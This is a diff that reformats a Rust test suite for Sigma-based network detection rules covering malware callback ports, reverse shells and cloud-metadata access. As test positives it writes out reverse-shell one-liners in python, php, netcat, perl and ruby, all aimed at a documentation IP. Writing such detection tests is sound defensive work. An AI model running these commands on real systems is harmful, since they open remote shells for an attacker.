@@ -24,12 +24,21 @@ fn rule_files() -> Vec<PathBuf> {
         .filter(|p| p.extension().is_some_and(|x| x == "yml"))
         .collect();
     files.sort();
-    assert_eq!(files.len(), 9, "expected the 9 SigmaHQ rules in {}", dir.display());
+    assert_eq!(
+        files.len(),
+        9,
+        "expected the 9 SigmaHQ rules in {}",
+        dir.display()
+    );
     files
 }
 
 fn sigmahq() -> Arc<RuleSet> {
-    Arc::new(RuleSet::load(&rule_files()).expect("every SigmaHQ rule loads").rules)
+    Arc::new(
+        RuleSet::load(&rule_files())
+            .expect("every SigmaHQ rule loads")
+            .rules,
+    )
 }
 
 fn fires(set: &Arc<RuleSet>, rec: &monitor::record::ConnectionRecord, id: &str) -> bool {
@@ -62,7 +71,12 @@ fn hostname_rules_load_never_match_and_check_warns() {
     let report = check(&rule_files());
     assert!(report.is_ok(), "{:?}", report.errors);
     assert_eq!(report.exit_code(), 0);
-    assert!(report.warnings.iter().any(|w| w.contains("DestinationHostname")));
+    assert!(
+        report
+            .warnings
+            .iter()
+            .any(|w| w.contains("DestinationHostname"))
+    );
     // Nothing those rules test is ever filled, so no event matches them.
     let set = sigmahq();
     let rec = ev().image("/usr/bin/xmrig").dst("203.0.113.7", 443).build();
@@ -78,10 +92,17 @@ fn malware_callback_port() {
             "port {port}"
         );
     }
-    assert!(fires(&set, &ev().dst("2001:db8::7", 4444).build(), CALLBACK));
+    assert!(fires(
+        &set,
+        &ev().dst("2001:db8::7", 4444).build(),
+        CALLBACK
+    ));
     // Near misses: other ports, and every filtered range (IPv4, IPv6, mapped).
     for port in [887, 4445, 22, 8088] {
-        assert!(!fires(&set, &ev().dst("203.0.113.7", port).build(), CALLBACK), "{port}");
+        assert!(
+            !fires(&set, &ev().dst("203.0.113.7", port).build(), CALLBACK),
+            "{port}"
+        );
     }
     for ip in [
         "127.0.0.1",
@@ -113,10 +134,18 @@ fn reverse_shell_indicator_bash_to_remote_address() {
     ));
     // Near misses: the filtered addresses, and shells that are not bash.
     for ip in ["127.0.0.1", "0.0.0.0", "::ffff:127.0.0.1"] {
-        assert!(!fires(&set, &ev().image("/usr/bin/bash").dst(ip, 4242).build(), BACK_CONNECT));
+        assert!(!fires(
+            &set,
+            &ev().image("/usr/bin/bash").dst(ip, 4242).build(),
+            BACK_CONNECT
+        ));
     }
     for exe in ["/usr/bin/rbash", "/usr/bin/dash", "/usr/bin/bash5"] {
-        assert!(!fires(&set, &ev().image(exe).dst("203.0.113.7", 4242).build(), BACK_CONNECT));
+        assert!(!fires(
+            &set,
+            &ev().image(exe).dst("203.0.113.7", 4242).build(),
+            BACK_CONNECT
+        ));
     }
 }
 
@@ -128,15 +157,32 @@ fn reverse_shell_process_args() {
         ("/usr/bin/bash", vec!["bash", "-i"]),
         (
             "/usr/bin/python3.11",
-            vec!["python3", "-c", "import socket,os;s=socket.socket();s.connect(('203.0.113.7',4444))"],
+            vec![
+                "python3",
+                "-c",
+                "import socket,os;s=socket.socket();s.connect(('203.0.113.7',4444))",
+            ],
         ),
-        ("/usr/bin/php8.2", vec!["php", "-r", "$sock=fsockopen('203.0.113.7',4444);"]),
-        ("/usr/bin/nc.traditional", vec!["nc", "-e", "/bin/sh", "203.0.113.7", "4444"]),
+        (
+            "/usr/bin/php8.2",
+            vec!["php", "-r", "$sock=fsockopen('203.0.113.7',4444);"],
+        ),
+        (
+            "/usr/bin/nc.traditional",
+            vec!["nc", "-e", "/bin/sh", "203.0.113.7", "4444"],
+        ),
         (
             "/usr/bin/perl",
-            vec!["perl", "-e", "use Socket;$i=\"203.0.113.7\";$p=4444;socket(S,PF_INET,SOCK_STREAM,0)"],
+            vec![
+                "perl",
+                "-e",
+                "use Socket;$i=\"203.0.113.7\";$p=4444;socket(S,PF_INET,SOCK_STREAM,0)",
+            ],
         ),
-        ("/usr/bin/ruby3.1", vec!["ruby", "-rsocket -e f=TCPSocket.open(\"203.0.113.7\",4444)"]),
+        (
+            "/usr/bin/ruby3.1",
+            vec!["ruby", "-rsocket -e f=TCPSocket.open(\"203.0.113.7\",4444)"],
+        ),
         ("/usr/bin/xterm", vec!["xterm", "-display", "203.0.113.7:1"]),
     ];
     for (exe, args) in &positives {
@@ -145,8 +191,14 @@ fn reverse_shell_process_args() {
     }
     let near_misses = [
         ("/usr/bin/bash", vec!["bash", "-c", "ls"]),
-        ("/usr/bin/python3.11", vec!["python3", "-c", "print('no socket')"]),
-        ("/usr/bin/python3.11", vec!["python3", "server.py", "connect"]),
+        (
+            "/usr/bin/python3.11",
+            vec!["python3", "-c", "print('no socket')"],
+        ),
+        (
+            "/usr/bin/python3.11",
+            vec!["python3", "server.py", "connect"],
+        ),
         ("/usr/bin/php8.2", vec!["php", "-r", "echo 1;"]),
         ("/usr/bin/nc.traditional", vec!["nc", "-l", "-p", "4444"]),
         ("/usr/bin/perl", vec!["perl", "-e", "use Socket; print 1"]),
@@ -164,28 +216,59 @@ fn reverse_shell_process_args() {
 #[test]
 fn cloud_metadata_access_by_script_interpreters() {
     let set = sigmahq();
-    for exe in ["/usr/bin/python3.11", "/usr/local/bin/node", "/home/u/.bun/bin/bun"] {
+    for exe in [
+        "/usr/bin/python3.11",
+        "/usr/local/bin/node",
+        "/home/u/.bun/bin/bun",
+    ] {
         for ip in ["169.254.169.254", "169.254.170.2"] {
-            assert!(fires(&set, &ev().image(exe).dst(ip, 80).build(), METADATA), "{exe} {ip}");
+            assert!(
+                fires(&set, &ev().image(exe).dst(ip, 80).build(), METADATA),
+                "{exe} {ip}"
+            );
         }
     }
-    assert!(!fires(&set, &ev().image("/usr/bin/curl").dst("169.254.169.254", 80).build(), METADATA));
     assert!(!fires(
         &set,
-        &ev().image("/usr/bin/python3.11").dst("169.254.169.253", 80).build(),
+        &ev()
+            .image("/usr/bin/curl")
+            .dst("169.254.169.254", 80)
+            .build(),
         METADATA
     ));
-    assert!(!fires(&set, &ev().image("/usr/bin/nodejs").dst("169.254.169.254", 80).build(), METADATA));
+    assert!(!fires(
+        &set,
+        &ev()
+            .image("/usr/bin/python3.11")
+            .dst("169.254.169.253", 80)
+            .build(),
+        METADATA
+    ));
+    assert!(!fires(
+        &set,
+        &ev()
+            .image("/usr/bin/nodejs")
+            .dst("169.254.169.254", 80)
+            .build(),
+        METADATA
+    ));
 }
 
 #[test]
 fn initiated_as_boolean_and_as_string_both_match() {
     // The callback rule writes `Initiated: 'true'`, the metadata rule `Initiated: true`.
     let set = sigmahq();
-    assert!(fires(&set, &ev().dst("203.0.113.7", 4444).build(), CALLBACK));
     assert!(fires(
         &set,
-        &ev().image("/usr/bin/python3").dst("169.254.169.254", 80).build(),
+        &ev().dst("203.0.113.7", 4444).build(),
+        CALLBACK
+    ));
+    assert!(fires(
+        &set,
+        &ev()
+            .image("/usr/bin/python3")
+            .dst("169.254.169.254", 80)
+            .build(),
         METADATA
     ));
 }
@@ -197,7 +280,10 @@ fn broken_file() -> PathBuf {
 
 fn tab_line() -> u32 {
     let text = std::fs::read_to_string(broken_file()).unwrap();
-    text.lines().position(|l| l.starts_with('\t')).expect("a tab-indented line") as u32 + 1
+    text.lines()
+        .position(|l| l.starts_with('\t'))
+        .expect("a tab-indented line") as u32
+        + 1
 }
 
 #[test]
@@ -231,5 +317,8 @@ fn check_exits_2_on_the_broken_file_and_names_it() {
     assert_eq!(report.exit_code(), 2);
     assert_eq!(report.errors.len(), 1);
     let e = report.errors[0].to_string();
-    assert!(e.contains("tab_indent.yml") && e.contains(&tab_line().to_string()), "{e}");
+    assert!(
+        e.contains("tab_indent.yml") && e.contains(&tab_line().to_string()),
+        "{e}"
+    );
 }
